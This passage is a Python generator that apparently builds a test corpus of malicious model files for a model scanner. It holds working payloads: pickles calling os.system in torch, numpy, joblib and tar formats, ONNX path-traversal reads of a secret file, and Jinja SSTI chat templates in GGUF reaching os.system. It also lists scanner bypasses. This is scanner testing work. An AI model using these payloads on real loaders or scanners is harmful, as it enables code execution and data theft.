    add(i, c, 'torch', 'trixie', 'legacy torch format (magic, protocol, sys_info pickles) with the payload in the 4th pickle', 'issue 9 (torch legacy format)',
        torch_legacy(p), ext='pt')
    i = 'c4-torch-legacy-sysinfo'
    p = legacy_parts()
    p[2] = pkl(Call(SYSTEM, touch(i)), 2)
    add(i, c, 'torch', 'trixie', 'legacy torch format with the payload in the sys_info (3rd) pickle', 'issue 9 (torch legacy format)',
        torch_legacy(p), ext='pt')
    i = 'c4-zip-flag-encrypted'
    add(i, c, 'torch', 'trixie', 'torch zip with an extra member whose flag bits say encrypted (Python zipfile raises on it, torch never reads it)',
        'GHSA-w8jq-xcqf-f792 (CVE-2025-1945)',
        zip_flag(torch_zip(pkl(Call(SYSTEM, touch(i)), 2), extra=[('archive/extra/notes.pkl', pkl({'a': 1}))]), 'archive/extra/notes.pkl', 0x41), ext='pt')
    i = 'c4-zip-flag-local-only'
    add(i, c, 'torch', 'trixie', 'torch zip whose data.pkl local header alone has flag bits 0x61 (central directory clean)',
        'GHSA-w8jq-xcqf-f792 (CVE-2025-1945)',
        zip_flag(torch_zip(pkl(Call(SYSTEM, touch(i)), 2)), 'archive/data.pkl', 0x61, central=False), ext='pt')
    i = 'c4-zip-name-mismatch'
    add(i, c, 'torch', 'trixie', 'torch zip whose local header name differs from the central directory name', 'GHSA-7q5r-7gvp-wc82 (CVE-2025-1944)',
        zip_local_name(torch_zip(pkl(Call(SYSTEM, touch(i)), 2)), 'archive/data.pkl', 'archive/data.txt'), ext='pt')
    i = 'c4-zip-duplicate-name'
    add(i, c, 'torch', 'trixie', 'torch zip with two archive/data.pkl entries: a benign one and the payload', 'issue 9 (zip duplicate names)',
        torch_dup(pkl({'w': 1}, 2), pkl(Call(SYSTEM, touch(i)), 2)), ext='pt')
    i = 'c4-zip-data-descriptor'
    add(i, c, 'torch', 'trixie', 'torch zip whose data.pkl has zero sizes in the local header and a data descriptor', 'issue 9 (zip data descriptor)',
        zip_descriptor(torch_zip(pkl(Call(SYSTEM, touch(i)), 2)), 'archive/data.pkl'), ext='pt')
    i = 'c4-torch-ext-safetensors'
    add(i, c, 'torch', 'trixie', 'a torch zip named .safetensors', 'GHSA-769v-p64c-89pr (CVE-2025-1889 extensions)',
        torch_zip(pkl(Call(SYSTEM, touch(i)), 2), name='model'), ext='safetensors')
    i = 'c4-npz-duplicate'
    benign = npy("'<i4'", '(1,)', b'\x01\x00\x00\x00')
    add(i, c, 'numpy', 'bookworm', 'npz with two w.npy entries; zipfile (numpy) reads the last, the payload', 'issue 9 (zip duplicate names)',
        zip_bytes_dup([('w.npy', benign), ('w.npy', npy("'|O'", '(1,)', pkl(Call(SYSTEM, touch(i)), 3)))]), ext='npz')
    i = 'c4-pickle-npz-polyglot'
    add(i, c, 'numpy', 'bookworm', 'a pickle followed by a complete npz: zip readers see an npz, numpy.load sees a pickle', 'issue 9 (polyglots)',
        pkl(Call(SYSTEM, touch(i)), 2) + zip_bytes([('w.npy', benign)]), ext='npz')
    i = 'c4-npz-member-no-ext'
    add(i, c, 'numpy', 'bookworm', 'npz whose object array member is named without .npy', 'issue 9 (zip members)',
        zip_bytes([('w.npy', benign), ('weights', npy("'|O'", '(1,)', pkl(Call(SYSTEM, touch(i)), 3)))]), ext='npz')


# zip byte surgery --------------------------------------------------------------------------------


def zip_entries(data):
    """(local header offset, central header offset, name) of every entry."""
    eocd = data.rfind(b'PK\x05\x06')
    n, cd_size, cd_off = struct.unpack('<HII', data[eocd + 10 : eocd + 20])
    out, p = [], cd_off
    for _ in range(n):
        nl, el, cl = struct.unpack('<HHH', data[p + 28 : p + 34])
        (lo,) = struct.unpack('<I', data[p + 42 : p + 46])
        out.append((lo, p, data[p + 46 : p + 46 + nl].decode()))
        p += 46 + nl + el + cl
    return out


def zip_flag(data, name, bits, central=True):
    d = bytearray(data)
    for lo, co, nm in zip_entries(data):
        if nm == name:
            struct.pack_into('<H', d, lo + 6, struct.unpack('<H', d[lo + 6 : lo + 8])[0] | bits)
            if central:
                struct.pack_into('<H', d, co + 8, struct.unpack('<H', d[co + 8 : co + 10])[0] | bits)
    return bytes(d)


def zip_local_name(data, name, other):
    assert len(name) == len(other)
    d = bytearray(data)
    for lo, co, nm in zip_entries(data):
        if nm == name:
            d[lo + 30 : lo + 30 + len(name)] = other.encode()
    return bytes(d)


def zip_descriptor(data, name):
    """Rewrites entry `name` with flag bit 3, zero crc/sizes in its local header and a data
    descriptor after its data (same lengths, so no offsets move... except the descriptor, so the
    archive is rebuilt)."""
    entries = zip_entries(data)
    eocd = data.rfind(b'PK\x05\x06')
    n, cd_size, cd_off = struct.unpack('<HII', data[eocd + 10 : eocd + 20])
    locals_, centrals = [], []
    for idx, (lo, co, nm) in enumerate(entries):
        nl, el = struct.unpack('<HH', data[lo + 26 : lo + 30])
        crc, cs, us = struct.unpack('<III', data[lo + 14 : lo + 26])
        end = lo + 30 + nl + el + cs
        lh = bytearray(data[lo:end])
        cnl, cel, ccl = struct.unpack('<HHH', data[co + 28 : co + 34])
        ch = bytearray(data[co : co + 46 + cnl + cel + ccl])
        desc = b''
        if nm == name:
            struct.pack_into('<H', lh, 6, struct.unpack('<H', lh[6:8])[0] | 0x8)
            struct.pack_into('<III', lh, 14, 0, 0, 0)
            struct.pack_into('<H', ch, 8, struct.unpack('<H', ch[8:10])[0] | 0x8)
            desc = b'PK\x07\x08' + struct.pack('<III', crc, cs, us)
        locals_.append(bytes(lh) + desc)
        centrals.append(ch)
    out = bytearray()
    for lh, ch in zip(locals_, centrals):
        struct.pack_into('<I', ch, 42, len(out))
        out += lh
    cd_start = len(out)
    for ch in centrals:
        out += ch
    out += b'PK\x05\x06' + struct.pack('<HHHHIIH', 0, 0, len(centrals), len(centrals), len(out) - cd_start, cd_start, 0)
    return bytes(out)


def zip_bytes_dup(members):
    import warnings

    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        with zipfile.ZipFile(buf, 'w') as z:
            for name, data in members:
                zi = zipfile.ZipInfo(name, FIXED)
                zi.external_attr = 0o644 << 16
                z.writestr(zi, data)
    return buf.getvalue()


def torch_dup(first, second):
    return zip_bytes_dup(
        [
            ('archive/data.pkl', first),
            ('archive/byteorder', b'little'),
            ('archive/data.pkl', second),
            ('archive/version', b'3\n'),
        ]
    )


def cat5():
    c = 'npy-hidden-object-dtype'
    descrs = [
        ('c5-npy-subarray', "('|O', (2,))", 'a subarray of objects at the top level'),
        ('c5-npy-comma-string', "'i4,O'", 'a comma-separated dtype string with an object field'),
        ('c5-npy-repeat-count', "'i4,2O'", 'a repeat count in a comma string'),
        ('c5-npy-paren-shape', "'(2,)O'", 'a parenthesised shape prefix'),
        ('c5-npy-nested-record', "[('a', [('b', [('c', '|O')])])]", 'an object field three records deep'),
        ('c5-npy-titles', "[(('weights title', 'w'), '|O')]", 'a titled object field'),
        ('c5-npy-list-object', "[('x', '<i4'), ('y', '|O')]", "'|O' as the second field of a list descriptor"),
        ('c5-npy-word-object', "'object'", "the word 'object'"),
        ('c5-npy-o8', "'O8'", "'O8' (object with an item size)"),
        ('c5-npy-field-subarray', "[('x', '|O', (2,))]", 'a field whose subarray holds objects'),
    ]
    for i, d, what in descrs:
        add(i, c, 'numpy', 'bookworm', 'descriptor %s: %s; numpy.load(allow_pickle=True) unpickles the payload' % (d, what),
            'issue 9 (npy dtype grammar)', npy(d, '(1,)', pkl(Call(SYSTEM, touch(i)), 3)), ext='npy')
    headers = [
        ('c5-header-duplicate-key', "{'descr': '<i4', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }",
         "a header dict that names 'descr' twice: '<i4' first, '|O' last (literal_eval keeps the last)"),
        ('c5-header-implicit-concat', "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }",
         "a descriptor written as two adjacent string literals, '|' 'O'"),
        ('c5-header-hex-escape', "{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }",
         "a descriptor spelled with an escape, '\\x7cO'"),
        ('c5-header-comment', "{'descr': '<i4', # was int\n 'descr': 'O', 'fortran_order': False, 'shape': (1,), }",
         'a header with a Python comment and a line break, then a second descr'),
        ('c5-header-line-continuation', "{'descr': 'i4,\\\nO', 'fortran_order': False, 'shape': (1,), }",
         'a comma string broken by a backslash-newline inside the literal'),
        ('c5-npy-empty-field-name', "{'descr': [('', '|O')], 'fortran_order': False, 'shape': (1,), }",
         'an object field with an empty name (numpy names it f0)'),
        ('c5-npy-zero-size-object', "{'descr': [('a', '<i4'), ('b', '|O', (0,))], 'fortran_order': False, 'shape': (1,), }",
         'a zero-length object subarray: no object is stored, yet hasobject makes numpy unpickle'),
    ]
    for i, h, what in headers:
        add(i, c, 'numpy', 'bookworm', '%s; numpy.load(allow_pickle=True) unpickles the payload' % what,
            'issue 9 (npy dtype grammar)', npy(None, None, pkl(Call(SYSTEM, touch(i)), 3), header=h), ext='npy')
    i = 'c5-npy-v3-utf8'
    add(i, c, 'numpy', 'trixie', "version 3.0 header (4-byte length, UTF-8) with descr 'i4,O'", 'issue 9 (npy dtype grammar)',
        npy("'i4,O'", '(1,)', pkl(Call(SYSTEM, touch(i)), 3), version=(3, 0)), ext='npy')
    i = 'c5-npz-hidden-object'
    add(i, c, 'numpy', 'trixie', "npz whose second member has descr [('x','<f8'),('y','i4,O')]", 'issue 9 (npy dtype grammar)',
        zip_bytes([('a.npy', npy("'<i4'", '(1,)', b'\x01\x00\x00\x00')),
                   ('b.npy', npy("[('x', '<f8'), ('y', 'i4,O')]", '(1,)', pkl(Call(SYSTEM, touch(i)), 3)))], zipfile.ZIP_DEFLATED), ext='npz')


# lz4 frame with uncompressed blocks (so no lz4 codec is needed) ------------------------------------


def xxh32(data, seed=0):
    P1, P2, P3, P4, P5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    M = 0xFFFFFFFF

    def rotl(x, r):
        return ((x << r) | (x >> (32 - r))) & M

    n, p = len(data), 0
    if n >= 16:
        v = [(seed + P1 + P2) & M, (seed + P2) & M, seed & M, (seed - P1) & M]
        while p + 16 <= n:
            for k in range(4):
                (w,) = struct.unpack_from('<I', data, p)
                v[k] = (rotl((v[k] + w * P2) & M, 13) * P1) & M
                p += 4
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & M
    else:
        h = (seed + P5) & M
    h = (h + n) & M
    while p + 4 <= n:
        (w,) = struct.unpack_from('<I', data, p)
        h = (rotl((h + w * P3) & M, 17) * P4) & M
        p += 4
    while p < n:
        h = (rotl((h + data[p] * P5) & M, 11) * P1) & M
        p += 1
    h ^= h >> 15
    h = (h * P2) & M
    h ^= h >> 13
    h = (h * P3) & M
    h ^= h >> 16
    return h


def lz4_frame(data):
    desc = bytes([0x60, 0x40])
    out = b'\x04\x22\x4d\x18' + desc + bytes([(xxh32(desc) >> 8) & 0xFF])
    for k in range(0, len(data), 65536):
        block = data[k : k + 65536]
        out += struct.pack('<I', len(block) | 0x80000000) + block
    return out + b'\x00\x00\x00\x00'


def cat6():
    c = 'compressed'
    codecs_ = [
        ('zlib', lambda d: zlib.compress(d, 3)),
        ('gzip', lambda d: gzip.compress(d, 3, mtime=0)),
        ('bz2', lambda d: bz2.compress(d, 3)),
        ('lzma', lambda d: lzma.compress(d, lzma.FORMAT_ALONE)),
        ('xz', lambda d: lzma.compress(d, lzma.FORMAT_XZ, check=lzma.CHECK_CRC64)),
        ('lz4', lz4_frame),
    ]
    for name, comp in codecs_:
        i = 'c6-joblib-' + name
        body = pkl({'model': Call(SYSTEM, touch(i)), 'version': 1})
        add(i, c, 'joblib', 'bookworm', 'joblib file compressed with %s holding a pickle that calls os.system' % name,
            'issue 9 (joblib codecs)', comp(body), ext='joblib.' + name)
    i = 'c6-joblib-zf-compat'
    body = pkl(Call(G('enum', 'bltns.exec'), pyw(i)), 4)
    add(i, c, 'joblib', 'bookworm', "joblib < 0.10 'ZF' zlib file (numpy_pickle_compat) with an exec payload", 'issue 9 (joblib codecs)',
        b'ZF' + ('%#x' % len(body)).ljust(19).encode() + zlib.compress(body, 3), ext='joblib')
    i = 'c6-joblib-xz-array-bytes'
    add(i, c, 'joblib', 'bookworm', 'xz joblib whose object array (dtype O) pickle runs os.system', 'issue 9 (joblib codecs)',
        lzma.compress(joblib_object_array(pkl(Call(SYSTEM, touch(i)), 3)), lzma.FORMAT_XZ), ext='joblib.xz')
    zero = pkl(0, 2)
    for part in ('pickle', 'storages', 'tensors'):
        i = 'c6-torch-tar-' + part
        members = {'sys_info': legacy_parts()[2], 'storages': zero + pkl([], 2), 'tensors': zero, 'pickle': pkl({'w': 1}, 2)}
        members[part] = pkl(Call(SYSTEM, touch(i)), 2) + (pkl([], 2) if part == 'storages' else b'')
        add(i, c, 'torch', 'trixie', 'legacy torch tar checkpoint with the payload in the %s member' % part, 'issue 9 (torch legacy tar)',
            tar_bytes([(k, members[k]) for k in ('sys_info', 'storages', 'tensors', 'pickle')]), ext='tar')
    i = 'c6-torch-zip-deflated'
    add(i, c, 'torch', 'trixie', 'torch zip whose data.pkl is deflate-compressed', 'issue 9 (compressed members)',
        torch_zip(pkl(Call(SYSTEM, touch(i)), 2), compression=zipfile.ZIP_DEFLATED), ext='pt')


def joblib_object_array(payload):
    """A joblib stream whose wrapper has dtype object: joblib pickle.load()s the bytes after it."""
    state = {
        'subclass': G('numpy', 'ndarray'),
        'shape': (1,),
        'order': 'C',
        'dtype': Build(Call(G('numpy', 'dtype'), 'O8', False, True), (3, '|', None, None, None, -1, -1, 63)),
        'allow_mmap': False,
    }
    head = b'\x80\x04' + ser(Build(Raw(ser(G('joblib.numpy_pickle', 'NumpyArrayWrapper')) + b')\x81'), state))
    return head + payload + b'.'


def cat7():
    c = 'onnx-external-data'
    out = value_info('Y')
    models = []

    def place(i, loader, what, make_graph, functions=(), opsets=(('', 13),), locations=None):
        models.append((i, loader, what, make_graph, functions, opsets, locations))

    rel = '../../../../secret/secret.bin'  # from files/onnx/<id>/model.onnx inside /corpus

    def init_graph(loc):
        return graph([node('Identity', ['W'], ['Y'])], [out], inits=[ext_tensor('W', loc)])

    place('c7-initializer-absolute', 'onnxruntime', 'an initializer with an absolute location', lambda loc: init_graph(SECRET), locations='abs')
    place('c7-initializer-dotdot', 'onnxruntime', "an initializer whose location climbs out with '..'", lambda loc: init_graph(rel))
    place('c7-initializer-symlink', 'onnx', 'an initializer whose location is a symlink to a file outside the folder', lambda loc: init_graph('weights.bin'), locations='link')

    def sparse_graph(loc):
        idx = pmsg((1, [SECRET_LEN]), (2, INT64), (8, 'W_idx'), (9, b''.join(struct.pack('<q', k) for k in range(SECRET_LEN))))
        sp = pmsg((1, ext_tensor('W', loc)), (2, idx), (3, [SECRET_LEN]))
        return graph([node('Identity', ['W'], ['Y'])], [out], sparse=[sp])

    place('c7-sparse-initializer', 'onnxruntime', 'the values of a sparse initializer', lambda loc: sparse_graph(rel))
    place('c7-constant-attribute', 'onnxruntime', "a Constant node's value attribute",
          lambda loc: graph([node('Constant', [], ['Y'], [attr_tensor('value', ext_tensor('v', rel))])], [out]))
    place('c7-constant-attribute-symlink', 'onnx', "a Constant node's value attribute through a symlink",
          lambda loc: graph([node('Constant', [], ['Y'], [attr_tensor('value', ext_tensor('v', 'weights.bin'))])], [out]), locations='link')
    place('c7-node-attribute', 'onnx', "the tensor attribute of a non-Constant node (ConstantOfShape value)",
          lambda loc: graph([node('Constant', [], ['S'], [attr_tensor('value', pmsg((1, [1]), (2, INT64), (8, 's'), (9, struct.pack('<q', SECRET_LEN))))]),
                             node('ConstantOfShape', ['S'], ['Y'], [attr_tensor('value', ext_tensor('v', 'weights.bin'))])], [out]), locations='link')

    def branch(name, loc):
        return graph([node('Constant', [], ['Y' + name], [attr_tensor('value', ext_tensor('v' + name, loc))])], [value_info('Y' + name)], name=name)

    def cond():
        return node('Constant', [], ['C'], [attr_tensor('value', pmsg((2, 9), (8, 'c'), (9, b'\x01')))])

    place('c7-if-subgraph', 'onnxruntime', 'a Constant inside the then branch of an If, through a symlink',
          lambda loc: graph([cond(), node('If', ['C'], ['Y'], [attr_graph('then_branch', branch('t', 'weights.bin')), attr_graph('else_branch', branch('e', 'weights.bin'))])], [out]), locations='link')
    place('c7-if-subgraph-symlink', 'onnx', 'a Constant inside the branches of an If, through a symlink',
          lambda loc: graph([cond(), node('If', ['C'], ['Y'], [attr_graph('then_branch', branch('t', 'weights.bin')), attr_graph('else_branch', branch('e', 'weights.bin'))])], [out]), locations='link')

    def loop_body(loc):
        return graph(
            [node('Identity', ['cond_in'], ['cond_out']), node('Constant', [], ['v'], [attr_tensor('value', ext_tensor('lv', loc))])],
            [value_info('cond_out', (), 9), value_info('v')],
            inputs=[value_info('iter', (), INT64), value_info('cond_in', (), 9)], name='body')

    def loop_graph(loc):
        trip = node('Constant', [], ['M'], [attr_tensor('value', pmsg((2, INT64), (8, 'm'), (9, struct.pack('<q', 1))))])
        return graph([trip, cond(), node('Loop', ['M', 'C'], ['Ys'], [attr_graph('body', loop_body(loc))]),
                      node('Squeeze', ['Ys', 'Z'], ['Y']),
                      node('Constant', [], ['Z'], [attr_tensor('value', pmsg((1, [1]), (2, INT64), (8, 'z'), (9, struct.pack('<q', 0))))])], [out])

    place('c7-loop-subgraph', 'onnxruntime', 'a Constant inside the body of a Loop, through a symlink', lambda loc: loop_graph('weights.bin'), locations='link')

    def scan_graph(loc):
        body = graph([node('Constant', [], ['o'], [attr_tensor('value', ext_tensor('sv', loc))]), node('Identity', ['s_in'], ['s_out'])],
                     [value_info('s_out', (1,), INT64), value_info('o')], inputs=[value_info('s_in', (1,), INT64), value_info('x', (), INT64)], name='scanbody')
        c0 = node('Constant', [], ['S0'], [attr_tensor('value', pmsg((1, [1]), (2, INT64), (8, 's0'), (9, struct.pack('<q', 0))))])
        xs = node('Constant', [], ['XS'], [attr_tensor('value', pmsg((1, [1]), (2, INT64), (8, 'xs'), (9, struct.pack('<q', 0))))])
        z = node('Constant', [], ['Z'], [attr_tensor('value', pmsg((1, [1]), (2, INT64), (8, 'z'), (9, struct.pack('<q', 0))))])
        scan = node('Scan', ['S0', 'XS'], ['SF', 'Ys'], [attr_graph('body', body), pmsg((1, 'num_scan_inputs'), (20, 2), (3, 1))])
        return graph([c0, xs, z, scan, node('Squeeze', ['Ys', 'Z'], ['Y'])], [out])

    place('c7-scan-subgraph', 'onnxruntime', 'a Constant inside the body of a Scan, through a symlink', lambda loc: scan_graph('weights.bin'), locations='link')

    def func_model(loc):
        f = pmsg((1, 'Leak'), (5, ['fy']), (7, [node('Constant', [], ['fy'], [attr_tensor('value', ext_tensor('fv', loc))])]),
                 (9, [pmsg((1, ''), (2, 13))]), (10, 'local'))
        return graph([node('Leak', [], ['Y'], domain='local')], [out]), [f]

    for i, loader, what, mk, functions, opsets, locations in models:
        g = mk(None)
        add_onnx(i, c, loader, what, model(g, opsets), locations)
    t = pmsg((1, [SECRET_LEN]), (2, UINT8), (8, 'W'),
             (13, [pmsg((1, 'location'), (2, 'weights.bin')), pmsg((1, 'location'), (2, rel)), pmsg((1, 'length'), (2, str(SECRET_LEN)))]), (14, 1))
    add_onnx('c7-duplicate-location', c, 'onnxruntime',
             "an initializer with two 'location' entries: a decoy weights.bin inside the folder, then one climbing out (the last wins)",
             model(graph([node('Identity', ['W'], ['Y'])], [out], inits=[t])), 'decoy')
    for i, loader, locname, loc in (('c7-function', 'onnxruntime', None, rel), ('c7-function-symlink', 'onnx', 'link', 'weights.bin')):
        g, fs = func_model(loc)
        add_onnx(i, c, loader, 'a Constant inside a model-local function' + (' through a symlink' if locname else ''),
                 model(g, (('', 13), ('local', 1)), fs), locname)


ONNX_DIRS = {}


def add_onnx(i, c, loader, what, data, locations):
    f = 'files/onnx/%s/model.onnx' % i
    ONNX_DIRS[i] = (data, locations)
    add(i, c, loader, 'trixie', "%s reads %s (outside the model folder) into a tensor" % (what, SECRET), ONNX, None, files=f)


def cat8():
    c = 'gguf-chat-template'
    T = {}
    T['c8-subclasses-wrap-close'] = (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
        "{{ c.__init__.__globals__['system']('CMD') }}{% endif %}{% endfor %}", "''.__class__.__mro__[1].__subclasses__(), os._wrap_close globals")
    T['c8-attr-filter'] = (
        "{% for c in (''|attr('__class__')|attr('__mro__'))[1]|attr('__subclasses__')() %}{% if c.__name__ == '_wrap_close' %}"
        "{{ (c|attr('__init__')|attr('__globals__'))['popen']('CMD')|attr('read')() }}{% endif %}{% endfor %}", "the same through |attr(...)")
    T['c8-tilde-concat'] = (
        "{% set a = '__cla' ~ 'ss__' %}{% set m = '__m' ~ 'ro__' %}{% set s = '__subcla' ~ 'sses__' %}{% set g = '__glo' ~ 'bals__' %}"
        "{% for c in ((''|attr(a)|attr(m))[1]|attr(s))() %}{% if c.__name__ == '_wrap_close' %}{{ (c.__init__|attr(g))['system']('CMD') }}{% endif %}{% endfor %}",
        "dunder names built with ~")
    T['c8-subscript-globals'] = ("{{ cycler['__init__']['__globals__']['os']['popen']('CMD')['read']() }}", "['__globals__'] subscripts")
    T['c8-hex-escapes'] = ("{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.popen('CMD').read() }}", "'\\x5f\\x5f' escapes")
    T['c8-unicode-escapes'] = ("{{ joiner['\\u005f\\u005finit\\u005f\\u005f']['\\u005f\\u005fglobals\\u005f\\u005f'].os.system('CMD') }}", "'\\u005f' escapes on joiner")
    T['c8-cycler-globals'] = ("{{ cycler.__init__.__globals__.os.popen('CMD').read() }}", "cycler.__init__.__globals__.os.popen")
    T['c8-lipsum-globals'] = ("{{ lipsum.__globals__['os'].popen('CMD').read() }}", "lipsum.__globals__")
    T['c8-namespace-globals'] = ("{{ namespace.__init__.__globals__.os.system('CMD') }}", "namespace.__init__.__globals__")
    T['c8-template-reference'] = ("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('CMD').read() }}", "self._TemplateReference__context")
    T['c8-loop-built-name'] = (
        "{% set n = namespace(s='') %}{% for ch in ['_','_','g','l','o','b','a','l','s','_','_'] %}{% set n.s = n.s ~ ch %}{% endfor %}"
        "{{ (lipsum|attr(n.s)).os.system('CMD') }}", "a loop building '__globals__'")
    T['c8-join-filter'] = ("{{ (lipsum|attr(['_','_','globals','_','_']|join)).os.system('CMD') }}", "|join building '__globals__'")
    T['c8-replace-filter'] = ("{{ (lipsum|attr('XXglobalsXX'|replace('X','_'))).os.popen('CMD').read() }}", "|replace building '__globals__'")
    T['c8-format-filter'] = ("{{ (lipsum|attr('%sglobals%s'|format('__','__'))).os.system('CMD') }}", "|format building '__globals__'")
    T['c8-reverse-lower'] = ("{{ (lipsum|attr('__SLABOLG__'|lower|reverse)).os.system('CMD') }}", "|lower|reverse building '__globals__'")
    T['c8-in-chat-loop'] = (
        "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
        "{% if message['role'] == 'user' %}{{ lipsum.__globals__.os.system('CMD') if false else '' }}{{ cycler.__init__.__globals__.os.system('CMD') and '' }}{% endif %}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}", "hidden inside a realistic chat loop")
    benign = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}"
    i = 'c8-duplicate-key'
    add(i, c, 'jinja', 'bookworm', 'two tokenizer.chat_template keys: a benign one, then the payload (a dict of the metadata keeps the last)', SSTI,
        gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', benign),
              ('tokenizer.chat_template', "{{ lipsum.__globals__.os.system('%s') }}" % touch(i))]), ext='gguf')
    i = 'c8-named-template'
    add(i, c, 'jinja', 'bookworm', 'a benign default template and a payload in tokenizer.chat_template.rag, which llama-cpp-python registers as a chat handler', SSTI,
        gguf([('general.architecture', 'llama'), ('tokenizer.chat_template', benign),
              ('tokenizer.chat_template.rag', "{{ cycler.__init__.__globals__.os.system('%s') }}" % touch(i))]), ext='gguf')
    for i, (t, what) in T.items():
        add(i, c, 'jinja', 'bookworm', 'tokenizer.chat_template reaches os through %s; rendering runs a command' % what, SSTI,
            chat_gguf(t.replace('CMD', touch(i))), ext='gguf')


# ---------------------------------------------------------------------------------------------
# Review of the rebuilt scanner (issue 9): files each found to pass `modelgate scan`.

RV = 'adversarial review of the issue 9 scanner'


def wrapper_state(n, dtype=None, align=False):
    st = {'subclass': G('numpy', 'ndarray'), 'shape': (n,), 'order': 'C', 'dtype': dtype or np_dtype('u1'), 'allow_mmap': False}
    if align:
        st['numpy_array_alignment_bytes'] = 16
    return st


JOBLIB_WRAPPER = G('joblib.numpy_pickle', 'NumpyArrayWrapper')


def review():
    i = 'c4-joblib-wrapper-newobj'
    # sklearn's newObj(cls) is cls.__new__(cls): a NumpyArrayWrapper joblib reads array bytes after
    # (isinstance), which the walker does not take for one, so it walks the array bytes as opcodes.
    pay = p0_system(touch(i))[:-1] + b'0'
    arr = b'B' + struct.pack('<I', len(pay))
    w = Build(Call(G('sklearn.neighbors._kd_tree', 'newObj'), JOBLIB_WRAPPER), wrapper_state(len(arr)))
    add(i, 'loader-disagreement', 'joblib', 'bookworm',
        "a NumpyArrayWrapper made by sklearn.neighbors._kd_tree.newObj: joblib skips its 5 array bytes and runs the payload; "
        "the walker does not know it for a wrapper and reads those bytes as a BINBYTES that swallows the payload", RV,
        b'\x80\x04' + ser(w) + arr + pay + b'.', ext='joblib')
    i = 'c4-joblib-wrapper-new-index'
    pay = p0_system(touch(i))[:-1] + b'0'
    arr = b'B' + struct.pack('<I', len(pay))
    w = Build(Call(G('pandas.core.indexes.base', '_new_Index'), JOBLIB_WRAPPER, {}), wrapper_state(len(arr)))
    add(i, 'loader-disagreement', 'joblib', 'trixie',
        "the same with a NumpyArrayWrapper made by pandas' _new_Index(cls, {}) (cls.__new__(cls))", RV,
        b'\x80\x04' + ser(w) + arr + pay + b'.', ext='joblib')
    for i, image in (('c4-joblib-dtype-v2-hasobject', 'bookworm'), ('c4-joblib-dtype-v2-hasobject-np2', 'trixie')):
        # A numpy.dtype state of version 2 makes numpy recompute hasobject from the fields; the
        # walker takes the flags (0) and skips 64 bytes. The first array's byte is a STOP that
        # ends the plain (pickle.load) reading, which is forked at the first wrapper only.
        w1 = Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(1))
        odt = Build(Call(G('numpy', 'dtype'), 'O8', False, True), (3, '|', None, None, None, -1, -1, 63))
        vdt = Build(Call(G('numpy', 'dtype'), 'V8', False, True), (2, '|', None, ('a',), {'a': (odt, 0)}, 8, 1, 0))
        w2 = Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(8, vdt))
        inner = p0_system(touch(i))
        fill = 64 - len(inner)
        if fill % 2:
            inner = inner.replace(b'touch ', b'touch  ')
            fill -= 1
        add(i, 'loader-disagreement', 'joblib', image,
            'second joblib array whose V8 dtype has a version-2 state (flags 0, an object field): numpy recomputes hasobject, '
            'joblib pickle.loads the bytes the walker skips as 64 bytes of array data', RV,
            b'\x80\x04](' + ser(w1) + b'.' + ser(w2) + inner + b'N0' * (fill // 2) + b'e.', ext='joblib')
    i = 'c5-npz-storage-name'
    benign = npy("'<i4'", '(1,)', b'\x01\x00\x00\x00')
    add(i, 'npy-hidden-object-dtype', 'numpy', 'bookworm',
        "npz whose object array member is named archive/data/0, like a torch storage record: the scanner reads it as raw bytes, "
        "numpy.load reads it as an .npy", RV,
        zip_bytes([('w.npy', benign), ('archive/data/0', npy("'|O'", '(1,)', pkl(Call(SYSTEM, touch(i)), 3)))]), ext='npz')

    i = 'c6-torch-tar-unknown-type'
    # tarfile extracts (and extractfile reads) members of an unknown type as regular files;
    # tar-stream gives them type null and the scanner skips every member that is not a file.
    zero = pkl(0, 2)
    members = {'sys_info': legacy_parts()[2], 'storages': zero + pkl([], 2), 'tensors': zero, 'pickle': pkl(Call(SYSTEM, touch(i)), 2)}
    add(i, 'compressed', 'torch', 'trixie',
        "legacy torch tar checkpoint whose members have typeflag '9' (unknown): torch's tarfile reads them as files, the scanner skips them", RV,
        tar_typed([(k, members[k]) for k in ('sys_info', 'storages', 'tensors', 'pickle')], b'9'), ext='tar')
    for i, loader in (('c4-memo-key-minus-zero', 'pickle'), ('c4-memo-key-minus-zero-joblib', 'joblib')):
        # PUT -0 is memo key 0 to Python (int('-0')); the walker calls it a parse error, so the file
        # sniffs as 'unknown' and the pickle.load reading of it ends there, raising harmlessly.
        add(i, 'loader-disagreement', loader, 'bookworm',
            "a protocol 0 pickle whose second opcode is PUT '-0' (memo key 0 to Python): the scanner's walker calls it unparseable, "
            "sniffs the file as unknown and drops the reading", RV, b'Np-0\n0' + p0_system(touch(i)), ext='bin')
    i = 'c4-tar-joblib-polyglot'
    add(i, 'loader-disagreement', 'joblib', 'bookworm',
        'a tar archive whose header is the start of a joblib pickle (PROTO, then a BINBYTES over the header); non-pickle formats are '
        'walked only as pickle.load reads them, never as joblib.load, which skips the array bytes that hide the payload from pickle.load', RV,
        tar_joblib_polyglot(i), ext='tar')

    for i, image in (('c4-joblib-frame-array-bytes', 'bookworm'), ('c4-joblib-frame-array-bytes-np2', 'trixie')):
        # joblib's pure-Python unpickler reads array bytes from the file, past the current FRAME,
        # while the opcodes after the wrapper's BUILD still come from the frame: the walker skips
        # the array bytes right after the BUILD (the framed payload) and walks the real array bytes.
        w1 = Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(1))
        X = p0_system(touch(i))[:-1] + b'0'
        x = len(X)
        w2 = Build(Raw(ser(JOBLIB_WRAPPER) + b')\x81'), wrapper_state(x + 8))
        framed = ser(w2) + X
